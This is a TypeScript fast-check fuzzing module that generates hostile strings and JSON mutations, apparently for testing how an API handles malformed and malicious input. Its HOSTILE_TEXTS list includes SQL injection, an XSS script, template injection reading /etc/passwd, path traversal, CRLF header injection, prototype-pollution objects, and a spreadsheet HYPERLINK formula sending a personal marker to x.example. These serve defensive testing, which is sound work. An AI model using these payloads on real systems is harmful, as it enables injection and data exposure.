import fc from 'fast-check';

/** Stands for a person in what is sent: it may come back in no problem and stand in no log. */
export const PERSONAL = 'Wáng-7731-晓梅';

/** Becomes a number that JSON can write and no double can hold. */
export const BEYOND_DOUBLE = '@@1e400@@';

const LONG = 'x'.repeat(21_000);

/** Texts that have broken something somewhere: characters, dates, and languages of databases, shells, pages and logs. */
export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  PERSONAL,
  '\u0000',
  `${PERSONAL}\u0000${PERSONAL}`,
  '\ud800',
  `${PERSONAL}\udfff`,
  '\u202e\u2066txet\u2069',
  '\ufeff\u200b\u200d\u00ad',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0489'.repeat(400),
  '\u001b[2J\u0007\u0008',
  `${PERSONAL}' OR 1=1; DROP TABLE complaint; --`,
  `"><script>alert('${PERSONAL}')</script>`,
  '{{7*7}}${7*7}<%= 7*7 %>{% include "/etc/passwd" %}',
  `=HYPERLINK("http://x.example?${PERSONAL}","x")`,
  '../../../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00%2e%2e%2f%zz',
  `x\r\nset-cookie: a=${PERSONAL}\r\n\r\n`,
  `\n{"level":60,"msg":"${PERSONAL}"}`,
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  '0x10',
  '9'.repeat(400),
  'true',
  'null',
  'undefined',
  '[object Object]',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '9999-12-31T23:59:59-23:59',
  '0000-01-01T00:00:00+23:59',
  '2026-03-03T01:30:00.123456789123456789Z',
  '2026-02-30',
  '2026-02-30T00:00:00Z',
  '2026-03-03T24:00:00Z',
  '2026-12-31T23:59:60Z',
  '0000-01-01',
  '9999-12-31',
  `${'a.'.repeat(120)}a@customer.example`,
  `"${PERSONAL}"@customer.example`,
  'xn--a@xn--0.example',
  LONG,
  '漢'.repeat(21_000),
  `${' '.repeat(5_000)}x`,
];

const deep = (levels: number): unknown => JSON.parse('[{"a":'.repeat(levels) + '1' + '}]'.repeat(levels));

const HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -0,
  -1,
  0.1,
  1e308,
  5e-324,
  BEYOND_DOUBLE,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  -(2 ** 63),
  [],
  {},
  [[]],
  [null],
  [PERSONAL],
  { a: 1 },
  { name: PERSONAL, toString: 1, length: -1 },
  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
  JSON.parse('{"__proto__":{"polluted":true}}'),
  deep(40),
  deep(400),
  Array.from({ length: 6_000 }, (_, at) => at),
  Object.fromEntries(Array.from({ length: 2_000 }, (_, at) => [`k${at}`, at])),
];

/** A text that is meant to do harm; any other text too. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_TEXTS), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 60 }), weight: 1 },
);

/** Any JSON value, preferably one that does not belong where it is put. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileText, weight: 4 },
  { arbitrary: fc.constantFrom(...HOSTILE_VALUES), weight: 4 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 1 },
);

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '',
  'a/b~c',
  '$ref',
  'length',
  '0',
  '\u0000',
  'x'.repeat(5_000),
];

/** One change of a JSON value at one of its places. */
export type Mutation =
  | { readonly do: 'replace'; readonly at: number; readonly value: unknown }
  | { readonly do: 'add'; readonly at: number; readonly key: string; readonly value: unknown }
  | { readonly do: 'remove'; readonly at: number }
  | { readonly do: 'repeat'; readonly at: number; readonly times: number };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { arbitrary: fc.record({ do: fc.constant('replace' as const), at: fc.nat(60), value: hostileValue }), weight: 6 },
  { arbitrary: fc.record({ do: fc.constant('remove' as const), at: fc.nat(60) }), weight: 2 },
  {
    arbitrary: fc.record({
      do: fc.constant('add' as const),
      at: fc.nat(60),
      key: fc.constantFrom(...KEYS),
      value: hostileValue,
    }),
    weight: 2,
  },
  {
    arbitrary: fc.record({ do: fc.constant('repeat' as const), at: fc.nat(60), times: fc.constantFrom(2, 100, 2_000) }),
    weight: 1,
  },
);

type Place = readonly (string | number)[];

/** The value with one change; places are counted through the whole value, from its root on. */
export function mutate(value: unknown, change: Mutation): unknown {
  const places = placesOf(value);
  const place = places[change.at % places.length] as Place;
  if (change.do === 'replace') return changed(value, place, () => change.value);
  if (change.do === 'remove') return place.length === 0 ? undefined : without(value, place);
  return changed(value, place, (found) => {
    if (change.do === 'repeat')
      return Array<unknown>(change.times).fill(Array.isArray(found) ? (found[0] ?? null) : found);
    if (Array.isArray(found)) return [...found, change.value];
    if (!isRecord(found)) return { [change.key]: change.value };
    // Computed keys of an object literal are its own, `__proto__` too.
    return { ...found, [change.key]: change.value };
  });
}

function placesOf(value: unknown, here: Place = []): Place[] {
  if (Array.isArray(value)) return [here, ...value.slice(0, 5).flatMap((item, at) => placesOf(item, [...here, at]))];
  if (!isRecord(value)) return [here];
  return [here, ...Object.entries(value).flatMap(([key, item]) => placesOf(item, [...here, key]))];
}

function changed(value: unknown, [step, ...rest]: Place, change: (found: unknown) => unknown): unknown {
  if (step === undefined) return change(value);
  if (Array.isArray(value))
    return value.map((item, at) => (at === step ? changed(item, rest, change) : (item as unknown)));
  const record = value as Record<string, unknown>;
  return { ...record, [step]: changed(record[step], rest, change) };
}

function without(value: unknown, place: Place): unknown {
  const last = place.at(-1) as string | number;
  return changed(value, place.slice(0, -1), (found) => {
    if (Array.isArray(found)) return found.filter((_, at) => at !== last);
    return Object.fromEntries(Object.entries(found as object).filter(([key]) => key !== last));
  });
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
